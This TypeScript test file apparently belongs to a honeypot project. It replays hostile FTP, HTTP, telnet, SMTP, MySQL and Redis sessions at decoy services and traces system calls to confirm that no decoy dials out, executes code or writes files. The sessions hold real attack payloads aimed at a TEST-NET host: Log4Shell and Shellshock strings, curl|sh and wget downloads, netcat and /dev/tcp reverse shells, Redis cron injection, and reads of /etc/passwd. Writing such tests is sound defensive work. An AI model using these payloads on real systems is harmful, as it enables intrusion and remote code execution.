/** What a visitor tries at each decoy to make it reach something, run something, or write somewhere. Every answer is a byte string. */
import { spawn } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { talk } from '../../src/decoy/talk.test-suite.ts';
import { waitFor } from '../program.ts';

/** TEST-NET: nobody is there, and a decoy that dials would be seen dialling. */
const out = '198.51.100.7';
const crlf = (...lines: string[]): string[] => lines.map((line) => `${line}\r\n`);
const login = (password: string): string => Buffer.from(`root:${password}`).toString('base64');

/** One length-encoded packet of MySQL: `COM_QUERY` and the text. */
const query = (sql: string): string => {
  const body = Buffer.from(`\x03${sql}`, 'latin1');
  return Buffer.concat([Buffer.from([body.length & 255, body.length >> 8, 0, 0]), body]).toString('latin1');
};
const mysqlLogin = (): string => {
  const head = Buffer.alloc(32);
  head.writeUInt32LE(0x0200 | 0x8000 | 0x0080, 0);
  const body = Buffer.concat([head, Buffer.from('root\0'), Buffer.from([20]), Buffer.alloc(20, 1)]);
  return Buffer.concat([Buffer.from([body.length, 0, 0, 1]), body]).toString('latin1');
};

const request = (line: string, headers: string[] = [], body = ''): string =>
  [
    line,
    'Host: 198.51.100.7',
    ...headers,
    ...(body === '' ? [] : [`Content-Length: ${Buffer.byteLength(body)}`]),
    'Connection: close',
    '',
    body,
  ].join('\r\n');

/** Everything that is tried, by decoy: one list of lines for each connection. */
const hostileSessions = (password: string): Record<string, string[][]> => ({
  ftp: [
    crlf(
      'USER root',
      `PASS ${password}`,
      'PORT 198,51,100,7,0,80',
      'LIST',
      'PORT 127,0,0,1,0,22',
      'RETR /etc/passwd',
      `EPRT |1|${out}|80|`,
      'EPRT |2|2001:db8::9|80|',
      'NLST',
      ...Array.from({ length: 6 }, () => 'PASV'),
      'EPSV ALL',
      'SITE EXEC id',
      'SITE CHMOD 777 /etc/passwd',
      'RNFR /etc/passwd',
      'RNTO /../../../../tmp/phosor-was-here',
      'MKD /../../../../tmp/phosor-was-here',
      'DELE /etc/passwd',
      'QUIT',
    ),
  ],
  http: [
    [request(`GET http://${out}/proxied HTTP/1.1`)],
    [request(`CONNECT ${out}:443 HTTP/1.1`)],
    [
      request('GET / HTTP/1.1', [
        `User-Agent: \${jndi:ldap://${out}:1389/a}`,
        `X-Api: \${\${lower:j}ndi:dns://${out}}`,
      ]),
    ],
    [request('GET /cgi-bin/status.cgi HTTP/1.1', [`User-Agent: () { :; }; /bin/bash -c "wget http://${out}/x"`])],
    [request(`GET /wp-json/oembed/1.0/proxy?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1`)],
    [request('PUT /../../../../tmp/phosor-was-here.jsp HTTP/1.1', [], '<% Runtime.getRuntime().exec("id") %>')],
    [
      request(
        'POST /xmlrpc.php HTTP/1.1',
        ['Content-Type: text/xml'],
        `<!DOCTYPE x [<!ENTITY e SYSTEM "http://${out}/e">]><methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://${out}/a</string></value></param></params></methodCall>`,
      ),
    ],
    [
      request(
        'POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1',
        [],
        `<?php system("curl http://${out}/y|sh"); file_put_contents("/tmp/phosor-was-here","x");`,
      ),
    ],
    [
      request(
        'POST /upload.php HTTP/1.1',
        ['Content-Type: multipart/form-data; boundary=B'],
        '--B\r\nContent-Disposition: form-data; name="f"; filename="../../../../tmp/phosor-was-here.php"\r\n\r\n<?php ?>\r\n--B--\r\n',
      ),
    ],
    [
      request(
        'POST /script HTTP/1.1',
        [`Authorization: Basic ${login(password)}`, 'Content-Type: application/x-www-form-urlencoded'],
        `script=println+%22wget+http://${out}/x%22.execute().text`,
      ),
    ],
    [
      request(`GET /userRpm/PingIframeRpm.htm?ping_addr=${out};tftp+-g+-r+x+${out} HTTP/1.1`, [
        `Authorization: Basic ${login(password)}`,
      ]),
    ],
  ],
  telnet: [
    `/bin/busybox wget http://${out}/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; ./dvrHelper telnet`,
    `busybox tftp -g -l t -r mips ${out}; busybox ftpget ${out} a b`,
    `tftp ${out} -c get mips; nc ${out} 4444 -e /bin/sh; telnet ${out} 23; curl -s http://${out}/x | sh`,
    `bash -i >& /dev/tcp/${out}/4444 0>&1; python3 -c 'import socket; socket.create_connection(("${out}", 1))'; perl -e 'exec "/bin/sh"'`,
    `ping -c 1 ${out}; ssh root@${out} id; echo x > /proc/sysrq-trigger`,
    'cat /proc/self/exe > /tmp/phosor-was-here; exec /bin/sh',
  ].map((line) => crlf('root', password, 'enable', line, 'exit')),
  smtp: [
    crlf(
      'EHLO x',
      'MAIL FROM:<a@example.com>',
      `RCPT TO:<victim@[${out}]>`,
      'RCPT TO:<victim%example.net@example.org>',
      'RCPT TO:<"|touch /tmp/phosor-was-here"@localhost>',
      'RCPT TO:</tmp/phosor-was-here@localhost>',
      'DATA',
      `Subject: x\r\nDisposition-Notification-To: y@${out}\r\n\r\n\${run{/bin/id}}\r\n.`,
      'ETRN example.org',
      'EXPN root',
      'QUIT',
    ),
  ],
  mysql: [
    [mysqlLogin(), query("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t")],
    [query("SELECT '<?php ?>' INTO OUTFILE '/tmp/phosor-was-here.php'")],
  ],
  redis: [
    crlf(
      `SLAVEOF ${out} 6379`,
      `REPLICAOF ${out} 6379`,
      'CONFIG SET dir /tmp',
      'CONFIG SET dbfilename phosor-was-here',
      `SET x "\\n*/1 * * * * curl http://${out}/c | sh\\n"`,
      'SAVE',
      'BGSAVE',
      'BGREWRITEAOF',
      'MODULE LOAD /tmp/exp.so',
      `EVAL "return os.execute('id')" 0`,
      `MIGRATE ${out} 6379 x 0 1000`,
      `CLUSTER MEET ${out} 6379`,
      'SLAVEOF NO ONE',
      'QUIT',
    ),
  ],
});

/** Plays all of them at once. What was answered, by decoy. */
export async function playHostile(
  ports: Readonly<Record<string, number>>,
  password: string,
): Promise<Record<string, string[]>> {
  const said: Record<string, string[]> = {};
  await Promise.all(
    Object.entries(hostileSessions(password)).map(async ([decoy, sessions]) => {
      const to = ports[decoy] ?? 0;
      const options = { waitFirst: !/http|redis/.test(decoy), patience: 2500 };
      said[decoy] = await Promise.all(sessions.map((lines) => talk(to, lines, options)));
    }),
  );
  return said;
}

/** Calls of `strace -f` that reach out, start something, or change a file. */
export function forbiddenCalls(
  trace: string,
  allowed: { writes?: readonly string[]; listening?: boolean } = {},
): string[] {
  const { writes = [], listening = false } = allowed;
  return trace.split('\n').filter((line) => {
    if (/AF_INET6?\b/.test(line)) {
      // Ports for passive data connections are opened by the main process.
      const isListening = /\bsocket\(/.test(line) || /\bbind\(.*sin6?_port=htons\(0\)/.test(line);
      return !(listening && isListening);
    }
    if (/\bexecve(?:at)?\(/.test(line)) return true;
    const isChange =
      /\bopen(?:at2?)?\(.*O_(?:WRONLY|RDWR|CREAT|TRUNC)/.test(line) ||
      /\b(?:creat|unlink(?:at)?|rename(?:at2?)?|mkdir(?:at)?|rmdir|link(?:at)?|symlink(?:at)?|f?truncate|mknod(?:at)?|f?chmod(?:at)?)\(/.test(
        line,
      );
    const paths = [...line.matchAll(/"([^"]*)"/g)].map(([, path]) => path ?? '');
    // What is called with a descriptor only was opened by a call that is looked at.
    if (!isChange || (writes.length > 0 && paths.length === 0)) return false;
    return !paths.every((path) => writes.some((place) => path.startsWith(place))) || paths.length === 0;
  });
}

/** Begins to look at a process; the function ends it and gives what was called. Null: not allowed here. */
export async function watchCalls(pid: number, trace: string): Promise<(() => Promise<string>) | null> {
  const calls = 'connect,sendto,bind,socket,execve,execveat,%file,ftruncate,fchmod';
  const strace = spawn(
    'strace',
    ['-f', '-qq', '-e', `trace=${calls}`, '-e', 'signal=none', '-o', trace, '-p', String(pid)],
    {
      stdio: 'ignore',
    },
  );
  const isAttached = (): boolean => /^TracerPid:\s+[1-9]/m.test(readFileSync(`/proc/${pid}/status`, 'utf8'));
  await waitFor('strace', async () => isAttached() || strace.exitCode !== null);
  if (strace.exitCode !== null) return null;
  return async () => {
    const ended = new Promise((resolve) => strace.on('exit', resolve));
    strace.kill('SIGINT');
    await ended;
    return readFileSync(trace, 'utf8');
  };
}
